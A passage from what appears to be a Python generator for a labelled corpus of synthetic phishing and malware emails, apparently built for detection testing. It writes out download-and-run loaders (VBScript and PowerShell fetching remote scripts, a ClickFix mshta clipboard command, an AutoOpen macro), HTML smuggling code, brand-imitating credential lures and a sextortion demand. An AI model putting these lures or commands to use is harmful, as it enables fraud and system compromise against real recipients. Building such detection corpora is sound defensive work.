              "order I need your W-9 and the completed supplier form. Thanks!<br>Priya</p></div>")
    paras = ["Hi Priya,", "", "Sorry for the delay, attached is our W-9 and the completed vendor setup form in one file. "
             "Double click the document icon to open it.", "", "Thanks,", "Jorge"]
    html = outlook_html(paras, ["Jorge Martinez", "Account Manager | Summit Lab Supply", "(614) 555-0142"], quoted)
    plain = plain_from(paras, ["Jorge Martinez", "Account Manager | Summit Lab Supply", "(614) 555-0142"]) + \
        (f"\n________________________________\nFrom: Priya Raman <{rcpt}>\nSent: Tuesday, February 6, 2024 10:14 AM\n"
         "Subject: W-9 and vendor setup form\n\nHi Jorge,\nTo get Summit set up as a vendor for the chemistry stockroom "
         "order I need your W-9 and the completed supplier form. Thanks!\nPriya\n")
    body = Multi("mixed", o["mixbnd"], [
        Multi("alternative", o["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "us-ascii"),
                                       tleaf(html, "html", "quoted-printable", "utf-8", "us-ascii")]),
        attachment("application/octet-stream", "W9_VendorSetup_Summit.one", one),
    ])
    emit(stem, "malware", "Reply-chain hijack from a compromised lab-supplier mailbox: 'RE: W-9 and vendor setup form' with a "
         "OneNote .one file embedding an HTA that downloads and runs a DLL.", message(join(top, o["pre"], o["hdrs"], bottom), body))


@build
def phish_clickfix_html_attachment():
    stem = "b46-phish-clickfix-html"
    rcpt = f"nhassan@{CA}"
    t = T("2025-05-27 13:09:44")
    dom = "member-disputes.com"
    ip, helo, rdns = "80.76.49.201", f"mail.{dom}", "vm1296204.stark-industries.solutions"
    auth = Auth("pass", f"cases@{dom}", [("pass", dom, "dkim")], "none", dom)
    top = gmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    cmd = ("mshta https://cdn-verify-human.com/cf/check.hta # \u2714 I am not a robot - Cloudflare Verification ID: "
           + digits(stem + "cf", 6))
    page = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="UTF-8"><title>Just a moment...</title>
<style>body{{font-family:system-ui,-apple-system,Segoe UI,Roboto,sans-serif;background:#fff;color:#313131;}}
.main{{max-width:620px;margin:120px auto;}} .cb{{border:1px solid #e0e0e0;padding:16px;width:300px;background:#fafafa;}}
#steps{{display:none;border:1px solid #ddd;padding:16px;margin-top:18px;font-size:15px;}}</style></head>
<body><div class="main">
<h1 style="font-size:26px;">Member Dispute Form - secure document</h1>
<p>Verify you are human by completing the action below.</p>
<div class="cb"><label><input type="checkbox" id="c" onclick="go()"> I'm not a robot</label></div>
<div id="steps"><b>Verification steps</b><ol>
<li>Press <b>Windows Button + R</b></li>
<li>Press <b>CTRL + V</b></li>
<li>Press <b>Enter</b> on your keyboard to finish</li></ol>
<p style="font-size:13px;color:#666;">Performing these steps confirms that you are not a robot (Cloudflare Ray ID: {hx(stem + 'ray', 16)})</p></div>
<p style="font-size:12px;color:#999;margin-top:40px;">Performance &amp; security by Cloudflare</p></div>
<script>
function go(){{
  var t = {repr(cmd).replace("'", '"')};
  var a = document.createElement("textarea"); a.value = t; document.body.appendChild(a); a.select();
  document.execCommand("copy"); document.body.removeChild(a);
  document.getElementById("steps").style.display = "block";
}}
</script></body></html>
"""
    plain = ("Dear Member Services,\n\nA cardholder dispute has been escalated regarding a transaction processed through your "
             "institution. Please review the attached dispute form and respond within 2 business days to avoid automatic "
             "chargeback.\n\nCase: MD-2025-" + digits(stem + "case", 6) + "\n\nDisputes Resolution Desk\n")
    hdr = join(top, dkim(dom, "dkim", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               vps_postfix_hop(dom, rcpt, t, stem),
               f"From: Disputes Resolution <cases@{dom}>", f"To: {rcpt}",
               "Subject: Cardholder dispute escalation - response required (MD-2025-" + digits(stem + "case", 6) + ")",
               f"Date: {rfc(t)}", f"Message-ID: <{hx(stem + 'mid', 30)}@{dom}>", "MIME-Version: 1.0")
    body = Multi("mixed", "------------" + digits(stem + "tb", 24), [
        tleaf(plain, "plain", "7bit", "utf-8", "UTF-8", extra_params="; format=flowed"),
        attachment("text/html", "Dispute_Form_MD2025.html", page.encode()),
    ])
    emit(stem, "malware", "ClickFix: 'cardholder dispute escalation' with an HTML attachment showing a fake 'verify you are "
         "human' check that copies an mshta command to the clipboard and tells the user to paste it into Win+R.",
         message(hdr, body))


@build
def phish_html_smuggling_zip():
    stem = "b46-phish-html-smuggling"
    rcpt = f"gemma.price@{UKHA}"
    t = T("2025-10-21 09:40:14")
    sender = "statements@midshireenergy-billing.co.uk"
    dom = sender.split("@")[1]
    ip, helo, rdns = "185.225.74.10", f"mail.{dom}", "185-225-74-10.static.as42237.net"
    auth = Auth("pass", sender, [("pass", dom, "s2025")], "none", dom)
    top, bottom = m365_in("ukha", stem, later(t, 2), ip, helo, rdns, auth, ctry="NL")
    vbs = (b'Set o = CreateObject("WScript.Shell")\r\no.Run "powershell -nop -w 1 -c ""iex(irm '
           b"'https://midshire-billing-cdn.com/s.ps1')\"\"\", 0\r\n")
    z = F.zip_archive([("Statement_SVH_Oct2025.vbs", vbs)])
    blob = base64.b64encode(z).decode()
    chunks = [blob[i:i + 76] for i in range(0, len(blob), 76)]
    js_blob = '"' + '"+\n"'.join(chunks) + '"'
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Energy Statement</title></head>
<body style="font-family:Arial;text-align:center;padding-top:80px;color:#444;">
<h3>Your statement is downloading...</h3><p>If the download does not start, <a id="l" href="#">click here</a>.</p>
<script>
var d = {js_blob};
var b = Uint8Array.from(atob(d), function(c) {{ return c.charCodeAt(0); }});
var f = new Blob([b], {{type: "application/zip"}});
var a = document.getElementById("l"); a.href = URL.createObjectURL(f); a.download = "Statement_SVH_Oct2025.zip"; a.click();
</script></body></html>
"""
    plain = ("Dear Customer,\n\nYour energy statement for October 2025 for supply address: Severn Vale Homes, Block C "
             "communal supply, is now available. Account balance: GBP 3,412.58 (DD will be taken on 01/11/2025).\n\n"
             "Please open the attached secure statement to review your charges.\n\nMidshire Energy Billing\n")
    hdr = join(top, dkim(dom, "s2025", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               vps_postfix_hop(dom, rcpt, t, stem),
               f"From: Midshire Energy <{sender}>", f"To: {rcpt}", "Subject: Your October 2025 energy statement is ready",
               f"Date: {rfc(t, 'Europe/London')}", f"Message-ID: <{hx(stem + 'mid', 28)}@{dom}>", "MIME-Version: 1.0",
               bottom)
    body = Multi("mixed", "_----" + hx(stem + "b", 24), [
        tleaf(plain, "plain", "quoted-printable", "utf-8", "utf-8"),
        attachment("text/html", "Statement_Oct2025.html", page.encode()),
    ])
    emit(stem, "malware", "HTML smuggling: energy-bill 'statement ready' from a throwaway billing look-alike domain whose "
         "HTML attachment reassembles a base64 zip in the browser and auto-downloads it; the zip holds a VBScript that "
         "runs a PowerShell loader.", message(hdr, body))


@build
def phish_docm_tender():
    stem = "b46-phish-docm-tender"
    rcpt = f"rpatel@{AU}"
    t = T("2024-03-12 00:27:39")
    dom = "westlinkinfra-au.com"
    sender = f"tenders@{dom}"
    ip, helo, rdns = "103.136.43.91", f"mail.{dom}", "ip-103-136-43-91.vps.hostingviet.vn"
    auth = Auth("pass", sender, [("pass", dom, "default")], "none", dom)
    top = postfix_in(rcpt, stem, t, ip, helo, rdns, auth, spam="3.8")
    macro = ('Attribute VB_Name = "NewMacros"\r\n'
             "Sub AutoOpen()\r\n"
             "    Dim s As String\r\n"
             '    s = "powershell -w hidden -enc " & ActiveDocument.Variables("k").Value\r\n'
             '    CreateObject("WScript.Shell").Run s, 0, False\r\n'
             "End Sub\r\n")
    doc = F.docx(["WestLink Infrastructure - Tender Clarification No. 3",
                  "This document is protected. Click 'Enable Content' above to view the clarification schedule.",
                  "Package: Civil and Structural Design Services - Western Interchange Upgrade"],
                 "Tender Clarification 3", "WestLink Procurement", macro=macro)
    paras = ["Dear Tenderer,", "", "Please find attached Tender Clarification No. 3 for the Western Interchange Upgrade design "
             "services package. Responses are due by 5pm AEDT Friday 15 March 2024.", "", "Regards,",
             "Procurement Team", "WestLink Infrastructure"]
    hdr = join(top, dkim(dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               vps_postfix_hop(dom, rcpt, t, stem),
               f"From: WestLink Procurement <{sender}>", f"To: {rcpt}",
               "Subject: Tender Clarification No. 3 - Western Interchange Upgrade (Design Services)",
               f"Date: {rfc(t, 'Australia/Sydney')}", f"Message-ID: <{hx(stem + 'mid', 28)}@{dom}>", "MIME-Version: 1.0")
    body = Multi("mixed", "=_" + hx(stem + "bnd", 32), [
        tleaf(plain_from(paras), "plain", "quoted-printable", "utf-8", "UTF-8"),
        attachment("application/vnd.ms-word.document.macroEnabled.12", "Tender_Clarification_03.docm", doc),
    ])
    emit(stem, "malware", "Tender-clarification email from a look-alike of a real infrastructure client's domain with a "
         "macro-enabled .docm whose AutoOpen macro launches an encoded PowerShell command.", message(hdr, body))


@build
def phish_reply_chain_zip_link():
    stem = "b46-phish-reply-chain-zip-link"
    rcpt = f"mwebb@{USU}"
    t = T("2024-06-25 18:03:40")
    sender = "tgreene@midlandmechanicalinc.com"
    prev = ref_id("usu", stem)
    o = m365_out("Tom Greene", sender, f"Marcus Webb <{rcpt}>", "RE: Chiller plant PM visit - Science Hall", t, stem, "us",
                 in_reply_to=prev, references=prev)
    auth = Auth("pass", sender, [("pass", "midlandmechanicalinc.com", "selector1")], "pass", "midlandmechanicalinc.com",
                "none")
    top, bottom = m365_in("usu", stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth, ctry="US")
    link = f"https://harborviewdentalstudio.com/{lower(stem + 'p', 6)}/?{lower(stem + 'q', 3)}={digits(stem + 'n', 6)}"
    quoted = ('<div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1">'
              '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">'
              f"<b>From:</b> Marcus Webb &lt;{rcpt}&gt;<br><b>Sent:</b> Thursday, March 14, 2024 9:41 AM<br>"
              f"<b>To:</b> Tom Greene &lt;{sender}&gt;<br><b>Subject:</b> Chiller plant PM visit - Science Hall</font>"
              "<div>&nbsp;</div></div><div><p>Tom,<br>Can your crew do the quarterly PM on the Science Hall chillers the week "
              "of the 25th? Access through the loading dock on the north side, check in with Facilities first.<br><br>"
              "Thanks,<br>Marcus Webb<br>Facilities Operations, Lakemont University</p></div>")
    paras = ["Hello,", "", "Please review the attached document and get back to me.", "",
             f'<a href="{link}">{link}</a>', "", "Thank you."]
    html = outlook_html(paras, None, quoted)
    plain = plain_from(paras) + (f"\n________________________________\nFrom: Marcus Webb <{rcpt}>\nSent: Thursday, March 14, "
                                 "2024 9:41 AM\nSubject: Chiller plant PM visit - Science Hall\n\nTom,\nCan your crew do the "
                                 "quarterly PM on the Science Hall chillers the week of the 25th?\n")
    body = Multi("alternative", o["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "us-ascii"),
                                          tleaf(html, "html", "quoted-printable", "utf-8", "us-ascii")])
    emit(stem, "phishing", "Reply-chain hijack: a contractor's compromised mailbox answers a months-old facilities thread with a "
         "generic 'please review the attached document' and a bare link to a compromised dental site that serves a zipped "
         "loader (Pikabot/DarkGate style).", message(join(top, o["pre"], o["hdrs"], bottom), body))


@build
def phish_quickbooks_callback():
    stem = "b46-phish-quickbooks-callback"
    rcpt = f"bkowalski@{CA}"
    t = T("2025-08-13 16:20:05")
    ip = f"206.108.40.{num(stem + 'ip', 10, 60)}"
    helo = rdns = f"mail{num(stem + 'h', 1, 9)}.notification.intuit.com"
    mailfrom = "quickbooks@notification.intuit.com"
    auth = Auth("pass", mailfrom, [("pass", "notification.intuit.com", "notify")], "pass", "notification.intuit.com",
                "reject")
    top = gmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    phone = "+1 (833) 926-0187"
    link = f"https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-{hx(stem + 'l', 32)}?locale=en_CA"
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f4f5f8;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Avenir Next,Helvetica,Arial,sans-serif;color:#393a3d;">
<tr><td style="padding:28px 32px 8px 32px;font-size:22px;font-weight:bold;">Pinnacle Data Services LLC</td></tr>
<tr><td style="padding:4px 32px 20px 32px;font-size:14px;">INVOICE 1186 DETAILS</td></tr>
<tr><td style="padding:0 32px;"><table width="100%" style="border-top:1px solid #d4d7dc;font-size:15px;">
<tr><td style="padding:12px 0;">Due 08/13/2025</td><td align="right" style="padding:12px 0;font-size:28px;font-weight:bold;">$1,489.00</td></tr></table></td></tr>
<tr><td style="padding:8px 32px 20px 32px;"><a href="{link}" style="display:block;background:#2ca01c;color:#fff;text-align:center;padding:13px;border-radius:4px;text-decoration:none;font-weight:bold;">Review and pay</a></td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:14px;line-height:21px;">Dear Customer,<br><br>
Your annual Microsoft Defender business protection plan has been renewed and charged to your account on file. If you
did not authorize this renewal or wish to cancel, contact our billing team at <b>{phone}</b> within 24 hours for a
full refund.<br><br>Thanks for your business!<br>Pinnacle Data Services LLC</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#6b6c72;background:#f4f5f8;">If you receive an email that seems fraudulent, please check with the business owner before paying.<br>
&copy; Intuit Inc. All rights reserved. <a href="https://www.intuit.com/privacy/" style="color:#0077c5;">Privacy</a> | <a href="https://quickbooks.intuit.com/security/" style="color:#0077c5;">Security</a> | <a href="https://quickbooks.intuit.com/legal/terms-of-service/" style="color:#0077c5;">Terms of Service</a></td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Pinnacle Data Services LLC\n\nINVOICE 1186 DETAILS\nDue 08/13/2025\n$1,489.00\n\nReview and pay: {link}\n\n"
             "Dear Customer,\n\nYour annual Microsoft Defender business protection plan has been renewed and charged to your "
             f"account on file. If you did not authorize this renewal or wish to cancel, contact our billing team at {phone} "
             "within 24 hours for a full refund.\n")
    hdr = join(top, dkim("notification.intuit.com", "notify", "From:Reply-To:To:Subject:MIME-Version:Content-Type:Date:"
                         "Message-ID", stem, t),
               f"Date: {rfc(t, 'America/Los_Angeles')}",
               "From: Pinnacle Data Services LLC <quickbooks@notification.intuit.com>",
               "Reply-To: pinnacledataservices.billing@gmail.com",
               f"To: {rcpt}",
               f"Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 7)}.{unix(t)}{digits(stem + 'm3', 3)}@"
               "notification.intuit.com>",
               "Subject: Invoice 1186 from Pinnacle Data Services LLC",
               "MIME-Version: 1.0",
               "X-Intuit-Entity: QBO-Invoice")
    emit(stem, "phishing", "Callback scam through a genuine QuickBooks Online invoice (intuit.com authenticates; Gmail reply "
         "address) for a bogus 'Microsoft Defender renewal', asking the recipient to phone a number to cancel.",
         message(hdr, alt(stem, plain, html)))


@build
def phish_canva_share():
    stem = "b46-phish-canva-share"
    rcpt = f"lisa.morgan@{UKHA}"
    t = T("2025-09-16 12:41:58")
    ip = f"167.89.{num(stem + 'a', 10, 120)}.{num(stem + 'b', 1, 250)}"
    rdns = f"o{num(stem + 'o', 1, 9)}.ptr{num(stem + 'p', 1000, 9999)}.canva.com"
    mailfrom = f"bounces+{digits(stem + 'b', 8)}-{hx(stem + 'b2', 4)}-{rcpt.replace('@', '=')}@em.canva.com"
    auth = Auth("pass", mailfrom, [("pass", "canva.com", "s1"), ("pass", "sendgrid.info", "smtpapi")], "pass", "canva.com",
                "quarantine")
    top, bottom = m365_in("ukha", stem, later(t, 2), ip, rdns, rdns, auth, ctry="US", bcl=2)
    design = f"https://www.canva.com/design/DAG{alnum(stem + 'd', 8)}/{alnum(stem + 'd2', 22)}/view?utm_content=DAG{alnum(stem + 'd', 8)}&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks&utlId={hx(stem + 'u', 10)}"
    click = f"https://u{digits(stem + 'sg', 7)}.ct.sendgrid.net/ls/click?upn=u001.{b64url(stem + 'upn', 160)}"
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 0;">
<table width="480" cellpadding="0" cellspacing="0" style="font-family:'Canva Sans',Helvetica,Arial,sans-serif;color:#0e1318;">
<tr><td style="padding-bottom:24px;"><img src="https://static.canva.com/emails/logo/canva-logo-2x.png" width="80" alt="Canva"></td></tr>
<tr><td style="font-size:22px;font-weight:bold;padding-bottom:12px;">Mark Ellis shared a design with you</td></tr>
<tr><td style="font-size:15px;color:#444;padding-bottom:18px;">&ldquo;Hi Lisa, revised tenancy sustainment agreement and rent schedule attached - open to view and sign.&rdquo;</td></tr>
<tr><td style="padding-bottom:18px;font-size:15px;"><b>SVH Tenancy Agreement - Revised 2025</b></td></tr>
<tr><td style="padding-bottom:30px;"><a href="{click}" style="background:#8b3dff;color:#fff;padding:12px 26px;border-radius:8px;text-decoration:none;font-weight:bold;">Open design</a></td></tr>
<tr><td style="font-size:12px;color:#6f7881;">You're receiving this because Mark Ellis shared a design with {rcpt}.<br>
Canva&reg;, 110 Kippax St, Surry Hills NSW 2010, Australia</td></tr>
</table></td></tr></table>
<img src="https://u{digits(stem + 'sg', 7)}.ct.sendgrid.net/wf/open?upn=u001.{b64url(stem + 'op', 120)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;">
</body></html>
"""
    plain = (f"Mark Ellis shared a design with you\n\n\"Hi Lisa, revised tenancy sustainment agreement and rent schedule attached - "
             f"open to view and sign.\"\n\nSVH Tenancy Agreement - Revised 2025\n\nOpen design: {design}\n")
    hdr = join(top, dkim("canva.com", "s1", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to",
                         stem + "c", t),
               dkim("sendgrid.info", "smtpapi", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to",
                    stem + "s", t),
               f"Received: by recvd-{hx(stem + 'rv', 10)}-{alnum(stem + 'rv2', 5)} with SMTP id recvd-{hx(stem + 'rv', 10)}"
               f"-{alnum(stem + 'rv2', 5)}-1-{hx(stem + 'rv3', 8).upper()}-{num(stem + 'rv4', 10, 99)}\n\t{rfc(t)} (UTC)",
               f"Received: from {hx(stem + 'rh', 12)} (unknown)\n\tby geopod-ismtpd-{num(stem + 'gp', 1, 40)} (SG) with HTTP\n\t"
               f"id {b64url(stem + 'sgid', 22)}\n\t{rfc(t)} (UTC)",
               f"Date: {rfc(t)}",
               "From: Canva <no-reply@canva.com>",
               "Mime-Version: 1.0",
               f"Message-ID: <{b64url(stem + 'mid', 22)}@geopod-ismtpd-{num(stem + 'gp', 1, 40)}>",
               "Subject: Mark Ellis shared \"SVH Tenancy Agreement - Revised 2025\" with you",
               f"X-SG-EID: u001.{b64(stem + 'eid', 120)}",
               f"X-SG-ID: u001.SdBcvi+Evd/bQef8eZF1{b64(stem + 'sgi', 60)}",
               f"To: {rcpt}",
               "X-Entity-ID: u001.6Ry6CqfH5XsCPuf8bFjd0A==", bottom)
    emit(stem, "phishing", "Genuine Canva 'shared a design with you' notification (canva.com via SendGrid, all aligned) from an "
         "attacker's account; the 'tenancy agreement' design is a one-page lure with a button to an AiTM kit.",
         message(hdr, alt(stem, plain, html, bnd=hx(stem + "sgb", 64))))


@build
def phish_secure_message_lookalike():
    stem = "b46-phish-secure-message"
    rcpt = f"tmclean@{CA}"
    t = T("2024-04-03 19:27:11")
    dom = "securemsg-portal.net"
    ip, helo, rdns = "23.94.133.12", f"smtp.{dom}", "23-94-133-12-host.colocrossing.com"
    auth = Auth("pass", f"no-reply@{dom}", [("pass", dom, "key1")], "none", dom)
    top = gmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    link = f"https://{dom}/formpostdir/safeformpost.aspx?a={hx(stem + 'a', 40)}&rcpt={rcpt}"
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#222;">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #ccc;">
<tr><td style="background:#1a1a1a;padding:14px;color:#fff;font-size:16px;">Proofpoint Encryption</td></tr>
<tr><td style="padding:18px;">
<p>You have received a secure message from <b>loans@albertacommunityfinancial.ca</b></p>
<p>Subject: <b>Signed Participation Agreement - Loan Syndication 2024-117</b></p>
<p><a href="{link}" style="background:#e43b2c;color:#fff;padding:10px 20px;text-decoration:none;">Click here</a> to read your message.</p>
<p>After that, open the attachment.</p>
<p style="font-size:11px;color:#666;">If you have concerns about the validity of this message, contact the sender directly.
Secured by Proofpoint Encryption, Copyright &copy; 2009-2024 Proofpoint, Inc. All rights reserved.</p>
</td></tr></table></body></html>
"""
    plain = plain_from(["You have received a secure message from loans@albertacommunityfinancial.ca",
                        "Subject: Signed Participation Agreement - Loan Syndication 2024-117",
                        f"Click here to read your message: {link}"])
    hdr = join(top, dkim(dom, "key1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               vps_postfix_hop(dom, rcpt, t, stem).replace("mail." + dom, "smtp." + dom),
               f"From: \"loans@albertacommunityfinancial.ca\" <no-reply@{dom}>", f"To: {rcpt}",
               "Subject: Secure Message: Signed Participation Agreement - Loan Syndication 2024-117",
               f"Date: {rfc(t)}", f"Message-ID: <{hx(stem + 'mid', 32)}@{dom}>", "MIME-Version: 1.0")
    emit(stem, "phishing", "Proofpoint Encryption 'you have received a secure message' imitation, with another credit union's "
         "loans address as display name, from a look-alike secure-message portal domain leading to a credential page.",
         message(hdr, alt(stem, plain, html)))


@build
def phish_sextortion_spoofed_self():
    stem = "b46-phish-sextortion"
    rcpt = f"dbarnes@{USU}"
    t = T("2025-03-04 06:51:27")
    ip, helo, rdns = "187.19.142.66", "187-19-142-66.user.vivozap.com.br", "187-19-142-66.user.vivozap.com.br"
    auth = Auth("softfail", rcpt, [], "fail", USU, "none")
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="BR", scl=5)
    btc = "bc1q" + alnum(stem + "btc", 38, "qpzry9x8gf2tvdw0s3jn54khce6mua7l")
    text_ = f"""Hello there,

I have to share some bad news with you. Around a few months ago I gained access to your devices, which you use for
browsing the internet. After that I started tracking your internet activities.

Here is the sequence of events: some time ago you visited a website with adult content and clicked on a link. Through
that, a Trojan virus was installed on your device. It gave me full access to your camera, microphone and contacts, and
I recorded a video of you while you were watching those videos.

As proof, I have sent this email to you from your own account ({rcpt}).

I am ready to delete everything in exchange for a small payment: $1450 USD in Bitcoin to the following wallet:

{btc}

You have 48 hours after opening this email. If I don't receive the payment, the video will be sent to all your
colleagues, family members and contacts. Don't try to reply, this address was generated for one message only.
Contacting the police will not help.
"""
    hdr = join(top,
               f"From: <{rcpt}>", f"To: <{rcpt}>", "Subject: Payment required: your account has been compromised",
               f"Date: {rfc(t, 'America/Sao_Paulo')}", f"Message-ID: <{hx(stem + 'mid', 12, True)}@{hx(stem + 'h', 8)}.net>",
               "MIME-Version: 1.0", "X-Priority: 3", "X-Mailer: Microsoft Office Outlook, Build 17.551210", bottom)
    emit(stem, "phishing", "Sextortion: 'I gained access to your devices' Bitcoin demand spoofing the recipient's own address "
         "from a Brazilian residential IP (SPF softfail, DMARC fail), no link.",
         message(hdr, Leaf("text/plain", text_.encode(), "7bit", '; charset="us-ascii"')))


@build
def phish_clickfix_link():
    stem = "b46-phish-clickfix-link"
    rcpt = f"owen.davies@{UKHA}"
    t = T("2025-08-19 10:12:09")
    sender = "bids@ashcroftmaintenance.co.uk"
    g = google_out(sender, UKHA, t, stem)
    auth = Auth("pass", sender, g["sigs"], "pass", "ashcroftmaintenance.co.uk", "none")
    top, bottom = m365_in("ukha", stem, g["t_out"], g["ip"], g["helo"], g["rdns"], auth, ctry="US")
    link = "https://thecornishbakehouse.co.uk/wp-admin/css/colors/docs/?tender=SVH-PW-2025-19"
    paras = ["Hi Owen,", "",
             "We have been invited to submit pricing for the SVH responsive repairs framework (Lot 2) and the returnable "
             "documents are on our portal. Could you confirm the schedule of rates is the latest version before we "
             "submit on Friday?", "",
             f'<a href="{link}">View tender documents (SVH-PW-2025-19)</a>', "",
             "Thanks,"]
    sig = ["<b>Nathan Ashcroft</b>", "Ashcroft Maintenance Ltd", "Unit 4, Brunel Park, Gloucester GL2 5XY", "01452 555 019"]
    hdr = join(top, g["pre"], "MIME-Version: 1.0", f"From: Nathan Ashcroft <{sender}>",
               f"Date: {rfc(t, 'Europe/London')}", f"Message-ID: {g['msgid']}",
               "Subject: SVH-PW-2025-19 schedule of rates - quick check", f"To: Owen Davies <{rcpt}>", bottom)
    body = Multi("alternative", g["bnd"], [tleaf(plain_from(paras, sig), "plain", "quoted-printable", "utf-8", "UTF-8"),
                                          tleaf(gmail_html(paras, sig), "html", "quoted-printable", "utf-8", "UTF-8")])
    emit(stem, "phishing", "Tender-documents request from a compromised maintenance contractor's Google Workspace mailbox, "
         "linking to a compromised WordPress bakery site that shows a fake 'verify you are human' ClickFix page "
         "instructing the user to paste a PowerShell command into Win+R.", message(hdr, body))


@build
def phish_mygov_ato():
    stem = "b46-phish-mygov-ato"
    rcpt = "liam.oconnor@fastmail.com"
    t = T("2025-07-29 08:35:50")
    dom = "mygov-au-notices.com"
    ip, helo, rdns = "185.234.216.59", f"mail.{dom}", "185-234-216-59.hostfly.by"
    auth = Auth("pass", f"noreply@{dom}", [("pass", dom, "default")], "none", dom)
    top = fastmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    link = f"https://{dom}/inbox/login?ref=ATO-{digits(stem + 'r', 8)}"
    html = f"""<html><body style="margin:0;font-family:Arial,Helvetica,sans-serif;background:#f5f5f5;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="background:#313131;padding:16px 24px;color:#fff;font-size:22px;font-weight:bold;">myGov</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#313131;line-height:22px;">
<p>Hi,</p>
<p>You have a new message in your myGov Inbox from the <b>Australian Taxation Office</b>.</p>
<p>Subject: <b>Notice of amended assessment - refund of $1,287.40</b></p>
<p>To read your message and confirm your refund details, sign in to myGov.</p>
<p><a href="{link}" style="background:#006cb6;color:#fff;padding:11px 24px;text-decoration:none;">Sign in to myGov</a></p>
<p style="font-size:12px;color:#666;">This is an automated email, please do not reply.</p>
</td></tr></table></body></html>
"""
    plain = plain_from(["You have a new message in your myGov Inbox from the Australian Taxation Office.",
                        "Subject: Notice of amended assessment - refund of $1,287.40",
                        f"Sign in to myGov: {link}"])
    hdr = join(top, dkim(dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               vps_postfix_hop(dom, rcpt, t, stem),
               f"From: myGov <noreply@{dom}>", f"To: {rcpt}", "Subject: You have a new message in your myGov Inbox",
               f"Date: {rfc(t, 'Australia/Sydney')}", f"Message-ID: <{hx(stem + 'mid', 26)}@{dom}>", "MIME-Version: 1.0")
    emit(stem, "phishing", "myGov 'new message from the ATO about your refund' imitation to a contractor's Fastmail address, "
         "from a look-alike government-notices domain hosted abroad, linking to a fake myGov sign-in.",
         message(hdr, alt(stem, plain, html)))


@build
def phish_zoom_review_lookalike():
    stem = "b46-phish-zoom-review"
    rcpt = f"kfoster@{USU}"
    t = T("2025-12-02 15:03:33")
    dom = "zoom-meetings-invite.com"
    ip = f"149.72.{num(stem + 'a', 100, 250)}.{num(stem + 'b', 1, 250)}"
    rdns = f"o{num(stem + 'o', 1, 9)}.ptr{num(stem + 'p', 1000, 9999)}.{dom}"
    mailfrom = f"bounces+{digits(stem + 'bn', 8)}-{hx(stem + 'bn2', 4)}-{rcpt.replace('@', '=')}@em{digits(stem + 'em', 4)}.{dom}"
    auth = Auth("pass", mailfrom, [("pass", dom, "s1"), ("pass", "sendgrid.info", "smtpapi")], "pass", dom, "none")
    top, bottom = m365_in("usu", stem, later(t, 1), ip, rdns, rdns, auth, ctry="US")
    click = f"https://u{digits(stem + 'sg', 8)}.ct.sendgrid.net/ls/click?upn=u001.{b64url(stem + 'upn', 150)}"
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f7f9fa;font-family:Lato,Helvetica,Arial,sans-serif;">
<table width="100%"><tr><td align="center" style="padding:28px 0;">
<table width="560" style="background:#fff;border-radius:8px;" cellpadding="0" cellspacing="0">
<tr><td style="padding:26px 30px 8px 30px;font-size:28px;color:#0b5cff;font-weight:bold;">zoom</td></tr>
<tr><td style="padding:10px 30px;font-size:18px;color:#232333;"><b>Human Resources</b> is inviting you to a scheduled Zoom meeting.</td></tr>
<tr><td style="padding:8px 30px;font-size:15px;color:#444;">Topic: <b>Annual Performance Review &amp; Compensation Discussion - K. Foster</b><br>
Time: Dec 3, 2025 10:00 AM Central Time (US and Canada)</td></tr>
<tr><td style="padding:8px 30px;font-size:14px;color:#666;">Please review the meeting agenda and pre-read documents before joining.</td></tr>
<tr><td style="padding:20px 30px 30px 30px;"><a href="{click}" style="background:#0b5cff;color:#fff;padding:12px 30px;border-radius:8px;text-decoration:none;font-weight:bold;">View Meeting Details</a></td></tr>
<tr><td style="padding:16px 30px;font-size:11px;color:#999;">&copy;2025 Zoom Communications, Inc. 55 Almaden Blvd, San Jose, CA 95113</td></tr>
</table></td></tr></table></body></html>
"""
    plain = ("Human Resources is inviting you to a scheduled Zoom meeting.\n\nTopic: Annual Performance Review & Compensation "
             f"Discussion - K. Foster\nTime: Dec 3, 2025 10:00 AM Central Time (US and Canada)\n\nView Meeting Details: {click}\n")
    hdr = join(top, dkim(dom, "s1", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", stem + "d", t),
